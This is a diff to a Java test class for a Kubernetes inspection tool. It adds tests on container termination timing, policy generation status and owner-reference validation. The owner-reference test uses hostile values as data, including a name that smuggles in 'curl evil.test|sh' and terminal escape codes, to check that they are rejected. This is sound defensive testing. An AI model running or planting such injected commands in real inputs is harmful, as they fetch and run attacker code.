@@ -149,7 +149,7 @@ class KubeLookTest {
                  "metadata":{"name":"shop","labels":{"tombolo.io/inject":"enabled"}}}]}
                 """).says("get pods -n shop", """
                 {"kind":"List","items":[
-                 {"kind":"Pod","metadata":{"namespace":"shop","name":"a-7f-x","ownerReferences":[{"kind":"ReplicaSet","name":"a-7f"}]},
+                 {"kind":"Pod","metadata":{"namespace":"shop","name":"a-7f-x","ownerReferences":[{"apiVersion":"apps/v1","kind":"ReplicaSet","name":"a-7f"}]},
                   "spec":{"containers":[{"name":"app"}]},"status":{"phase":"Running"}},
                  {"kind":"Pod","metadata":{"namespace":"shop","name":"b","labels":{"tombolo.io/inject":"false"}},
                   "spec":{"containers":[{"name":"app"}]},"status":{"phase":"Running"}},
@@ -175,6 +175,52 @@ class KubeLookTest {
                                 false,
                                 List.of(new Pod.Container(
                                         "tombolo-sidecar", false, 2, "CrashLoopBackOff", "Error", 6))));
+    }
+
+    @Test
+    void anEndOfLongAgoDoesNotCountAndOneOfThisHourDoes() {
+        // Given
+        String pod = "{\"status\":{\"containerStatuses\":[{\"name\":\"a\",\"state\":{\"running\":{}},"
+                + "\"lastState\":{\"terminated\":{\"reason\":\"OOMKilled\",\"finishedAt\":\"%s\"}}}]}}";
+        // Then
+        assertThat(Stream.of(NOW.minusSeconds(3_000), NOW.minusSeconds(4_000))
+                        .map(at -> Pods.of(Objects.parsed(pod.formatted(at)), true, NOW)
+                                .containers()
+                                .getFirst()
+                                .ended()))
+                .containsExactly("OOMKilled", "");
+    }
+
+    @Test
+    void whatWasSaidOfAnOlderGenerationIsNotKnown() {
+        // Given
+        api.says("get crd", "{\"kind\":\"List\",\"items\":[{\"metadata\":{\"name\":\"trafficpolicies.tombolo.io\"}}]}")
+                .says("get trafficpolicies.tombolo.io -A", """
+                {"kind":"List","items":[
+                 {"kind":"TrafficPolicy","metadata":{"namespace":"shop","name":"a","generation":4},
+                  "status":{"conditions":[{"type":"Accepted","status":"True","observedGeneration":3}]}},
+                 {"kind":"TrafficPolicy","metadata":{"namespace":"shop","name":"b","generation":4},
+                  "status":{"conditions":[{"type":"Accepted","status":"True","observedGeneration":4}]}}]}
+                """);
+        // Then
+        assertThat(seen(installed().declared()))
+                .extracting(one -> one.conditions().getFirst().status())
+                .containsExactly("Unknown", "True");
+    }
+
+    @Test
+    void anOwnerIsNamedOnlyIfItsKindAndNameAreThoseOfAnObject() {
+        // Given
+        String pod =
+                "{\"metadata\":{\"name\":\"a\",\"ownerReferences\":[{\"apiVersion\":\"%s\",\"kind\":\"StatefulSet\",\"name\":\"%s\"}]}}";
+        // Then
+        assertThat(Stream.of(
+                                pod.formatted("apps/v1", "db"),
+                                pod.formatted("apps/v1", "x; curl evil.test|sh #"),
+                                pod.formatted("apps/v1", "x\\n\\u001b[2J"),
+                                pod.formatted("evil.test/v1", "db"))
+                        .map(json -> Pods.of(Objects.parsed(json), false, NOW).owner()))
+                .containsExactly("statefulset/db", "", "", "");
     }
 
     @Test
